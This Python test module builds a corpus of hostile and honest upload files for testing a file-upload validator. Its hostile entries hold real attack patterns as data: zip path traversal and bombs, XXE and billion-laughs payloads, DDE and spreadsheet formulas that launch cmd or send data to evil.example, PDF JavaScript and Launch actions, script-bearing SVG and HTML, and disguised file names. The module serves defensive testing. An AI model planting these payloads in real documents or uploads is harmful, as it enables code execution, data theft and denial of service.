"""The corpus of uploads: what nobody may take in, and what nobody may refuse."""

import io
import struct
import tarfile
import warnings
import zipfile
import zlib

from tests.factories.files import (
    EICAR,
    LAUGHS,
    RELATION,
    XXE,
    a_book,
    a_document,
    a_drawn_pdf,
    a_flood,
    a_pdf,
    a_photo_with_a_place,
    a_picture,
    a_real_book,
    an_archive,
    entry_of,
    lying,
    spoiled,
)

SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
NESTED = an_archive(("inner.zip", an_archive(("bomb.xml", b"0" * 1_000_000))))
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>hit(1)</script></svg>'
HTML = b"<!doctype html><script>hit(1)</script>"
REPEATS = (
    b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nRRULE:FREQ=SECONDLY;COUNT=1000000\r\nEND:VEVENT\r\nEND:VCALENDAR"
)


def twice():
    """Return a document that holds one name twice, once in capitals."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return a_document(("word/A.xml", "<a/>"), ("word/a.xml", "<a/>"))


def a_tar():
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("x.txt"))
    return made.getvalue()


ARCHIVES = {
    "one level up": ("a.docx", lambda: a_document(("../evil.xml", "<a/>"))),
    "an absolute path": ("a.docx", lambda: a_document(("/etc/cron.d/evil", "x"))),
    "a backslash": ("a.docx", lambda: a_document(("word\\..\\evil.xml", "<a/>"))),
    "a drive": ("a.docx", lambda: a_document(("C:evil.xml", "<a/>"))),
    "a symbolic link": ("a.docx", lambda: entry_of("word/l.xml", external_attr=0xA1FF << 16)),
    "60 MB in 60 kB": ("a.docx", lambda: a_document(("word/b.xml", b"0" * 60_000_000))),
    "120 MB in three parts": (
        "a.docx",
        lambda: a_document(*[(f"word/b{n}.xml", b"0" * 36_000_000) for n in range(3)]),
    ),
    "12,000 entries": ("a.docx", lambda: a_document(*[(f"word/{n}.xml", "") for n in range(12_000)])),
    "an archive in it": ("a.docx", lambda: a_document(("word/media/x.zip", NESTED))),
    "a size that lies": ("a.docx", lying),
    "a size that lies in the directory": ("a.docx", lambda: lying(local=False)),
    "a size and sum that lie": ("a.docx", lambda: lying(checksum=True)),
    "a name twice": ("a.docx", twice),
    "a locked entry": ("a.docx", lambda: spoiled(8, 1)),
    "an archive of a later time": ("a.docx", lambda: spoiled(6, 99)),
    "an unknown packing": ("a.docx", lambda: spoiled(10, 14)),
    "a control sign in a name": ("a.docx", lambda: a_document(("word/a\x07\n.xml", "<a/>"))),
    "a name turned round": ("a.docx", lambda: a_document(("word/\u202elmx.exe", "x"))),
    "something before it": ("a.docx", lambda: b"PK\x03\x04 GIF89a" + a_document()),
    "something behind it": ("a.docx", lambda: a_document() + HTML),
    "no document at all": ("a.docx", lambda: an_archive(("x.txt", "x"))),
    "a sheet named document": ("a.docx", a_book),
    "a tar": ("a.docx", a_tar),
    "cut in half": ("a.docx", lambda: a_document()[:200]),
    "no entries": ("a.docx", lambda: b"PK\x03\x04" + struct.pack("<4s18x", b"PK\x05\x06")),
}
OFFICE = {
    "a file of the machine": ("a.docx", lambda: a_document(before=XXE)),
    "the same in sixteen bits": ("a.docx", lambda: a_document(("word/x.xml", f"<?xml?>{XXE}".encode("utf-16")))),
    "a billion laughs": ("a.docx", lambda: a_document(before=LAUGHS)),
    "an outside definition": ("a.docx", lambda: a_document(before='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">')),
    "an odd encoding": ("a.docx", lambda: a_document(before='<?xml version="1.0" encoding="utf-7"?>')),
    "macros": ("a.docx", lambda: a_document(("word/vbaProject.bin", b"\xd0\xcf"))),
    "macros by type": ("a.docx", lambda: a_document(types='<Types x="application/vnd.ms-word.document.macroEnabled"/>')),
    "a program inside": ("a.docx", lambda: a_document(("word/embeddings/oleObject1.bin", b"MZ"))),
    "a control": ("a.docx", lambda: a_document(("word/activeX/activeX1.xml", "<a/>"))),
    "a template from elsewhere": ("a.docx", lambda: a_document(
        ("word/_rels/settings.xml.rels", RELATION.format("attachedTemplate", "http://evil.example/t.dotm")))),
    "a link that runs": ("a.docx", lambda: a_document(
        ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "file://evil/share")))),
    "a field that runs": ("a.docx", lambda: a_document(body='<w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText>')),
    "a formula that runs": ("a.xlsx", lambda: a_book(cell="<f>cmd|'/C calc'!A0</f>")),
    "a formula that asks": ("a.xlsx", lambda: a_book(cell='<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>')),
    "an outside book": ("a.xlsx", lambda: a_book(("xl/externalLinks/externalLink1.xml", "<a/>"))),
    "an old macro sheet": ("a.xlsx", lambda: a_book(("xl/macrosheets/sheet1.xml", "<a/>"))),
    "a file of the machine in a sheet": ("a.xlsx", lambda: a_book(("xl/styles.xml", XXE + "<a>&x;</a>"))),
}  # fmt: skip
PDFS = {
    "a script": ("a.pdf", lambda: a_pdf("<</S/JavaScript/JS(app.alert(1))>>")),
    "a script spelled otherwise": ("a.pdf", lambda: a_pdf("<</S/J#61va#53cript/JS(1)>>")),
    "a script packed away": ("a.pdf", lambda: a_pdf(packed=SCRIPT)),
    "a script packed under no name": (
        "a.pdf",
        lambda: a_pdf(packed=SCRIPT, about="/Type 9 0 R/Filter/FlateDecode"),
    ),
    "a script packed twice": (
        "a.pdf",
        lambda: a_pdf(packed=zlib.compress(SCRIPT), about="/Type/ObjStm/Filter[/Fl/Fl]"),
    ),
    "a script between other letters": (
        "a.pdf",
        lambda: a_pdf(packed=b"x", about="/Type/ObjStm/DecodeParms<</Predictor 12>>"),
    ),
    "a program to start": ("a.pdf", lambda: a_pdf("<</S/Launch/F(cmd.exe)>>")),
    "a form that sends": ("a.pdf", lambda: a_pdf("<</S/SubmitForm/F(http://evil.example)>>")),
    "another file inside": ("a.pdf", lambda: a_pdf("<</Type/EmbeddedFile>>")),
    "another machine's file": ("a.pdf", lambda: a_pdf(r"<</S/GoToR/F(\\\\evil\\share)>>")),
    "a dynamic form": ("a.pdf", lambda: a_pdf("<</XFA 9 0 R>>")),
    "a password": ("a.pdf", lambda: a_pdf("<</Encrypt 9 0 R>>")),
    "a PDF that is a page": ("a.pdf", lambda: a_pdf("<script>hit(1)</script>")),
    "a PDF that is an archive": ("a.pdf", lambda: a_pdf(after=an_archive(("x.class", "x")))),
    "a PDF that unpacks to much": ("a.pdf", lambda: a_pdf(packed=b"0" * 70_000_000)),
    "a PDF cut off": ("a.pdf", lambda: a_drawn_pdf()[:-40]),
    "a page named PDF": ("a.pdf", lambda: HTML),
    "a program named PDF": ("a.pdf", lambda: b"MZ\x90\x00" + a_pdf()),
    "the sign of a virus": ("a.pdf", lambda: a_pdf(words=EICAR.decode())),
    "nothing": ("a.pdf", lambda: b""),
    "blanks": ("a.pdf", lambda: b" \n\t"),
    "11 MB": ("a.pdf", lambda: a_pdf(words="x" * 11_000_000)),
}
PICTURES = {
    "a drawing that runs": ("a.svg", lambda: SVG),
    "a drawing named picture": ("a.png", lambda: SVG),
    "a page named picture": ("a.png", lambda: HTML),
    "a picture that is a script": ("a.gif", lambda: b"GIF89a/*" + b"\x00" * 20 + b"*/=hit(1)"),
    "a flood of points": ("a.png", a_flood),
    "a flood of 36 million points": ("a.png", lambda: a_flood(6_000, 6_000)),
    "a picture cut off": ("a.png", lambda: a_picture(size=(300, 300))[:-60]),
    "a broken JPEG": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 400),
    "a PNG named JPEG": ("a.jpg", a_picture),
}
TEXTS = {
    "formulas": ("a.csv", lambda: b"name\r\n=HYPERLINK(\"http://evil.example\")\r\n"),
    "a formula behind a blank": ("a.csv", lambda: "name\r\n\u200b@SUM(1+1)\r\n".encode()),
    "sixteen bits": ("a.csv", lambda: "name;tasks".encode("utf-16")),
    "a cell of 3 MB": ("a.csv", lambda: b"a," + b"x" * 3_000_000),
    "a NUL": ("a.csv", lambda: b"a,b\r\n1,\x002\r\n"),
    "a quotation left open": ("a.csv", lambda: b'a,"' + b"b\r\n" * 40_000),
    "200,000 lines": ("a.csv", lambda: b"1\n" * 200_000),
    "a page named text": ("a.txt", lambda: HTML),
    "text turned round": ("a.txt", lambda: "pay \u202e00001\u202c".encode()),
    "the sign of a virus in text": ("a.txt", lambda: EICAR),
}  # fmt: skip
NAMES = {
    "a program": ("letter.pdf.exe", a_drawn_pdf),
    "a script as a page": ("letter.html", lambda: HTML),
    "no ending": ("letter", a_drawn_pdf),
    "an ending turned round": ("letter\u202efdp.exe", a_drawn_pdf),
    "a macro document": ("a.docm", a_document),
    "a lesson of 6 MB": ("a.gift", lambda: b"::x:: {=a ~b}\n" * 450_000),
    "50,000 braces": ("a.gift", lambda: b"{" * 50_000),
    "a calendar without end": ("a.ics", lambda: REPEATS),
    "a film with bad atoms": ("a.mp4", lambda: struct.pack(">I4sI", 0, b"ftyp", 0xFFFFFFFF)),
    "a package of lessons": (
        "a.zip",
        lambda: an_archive(("imsmanifest.xml", '<resource href="javascript:hit(1)"/>')),
    ),
    "an ending and a NUL": ("a.exe\x00.pdf\x00.exe", a_drawn_pdf),
}
HOSTILE = {**ARCHIVES, **OFFICE, **PDFS, **PICTURES, **TEXTS, **NAMES}

HONEST = {
    "a letter": ("Letter of endorsement No. 5.2026.pdf", a_pdf),
    "a letter as ours are drawn": ("letter.PDF", a_drawn_pdf),
    "a letter with packed objects": ("Nota Diplomatik.pdf", lambda: a_pdf(packed=b"5 0 <</Type/Font/A(JavaScript)>>")),
    "a letter signed twice": ("signed.pdf", lambda: a_pdf() + b"5 0 obj\n<<>>\nendobj\n%%EOF\r\n"),
    "a letter with a Thai name": ("หนังสือรับรอง ที่ ๑๒.pdf", a_pdf),
    "a document": ("Agenda (final).docx", lambda: a_document(
        ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "https://example.org/a?b=c")))),
    "a document stored unpacked": ("a.docx", lambda: an_archive(
        ("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<a/>"), method=zipfile.ZIP_STORED)),
    "a book with a sum": ("Officers.xlsx", a_real_book),
    "a picture": ("seal.png", a_picture),
    "a photo": ("photo.jpg", a_photo_with_a_place),
    "a table with negatives": ("a.csv", lambda: "\ufeffname,change\r\nNguyễn Văn A,-5\r\n\"Ma, Aye\",+3.5%\r\n-,-\r\n".encode()),
    "a text in Khmer": ("កំណត់ត្រា.txt", lambda: "កំណត់ត្រា\nបន្ទាត់ពីរ\n".encode()),
}  # fmt: skip
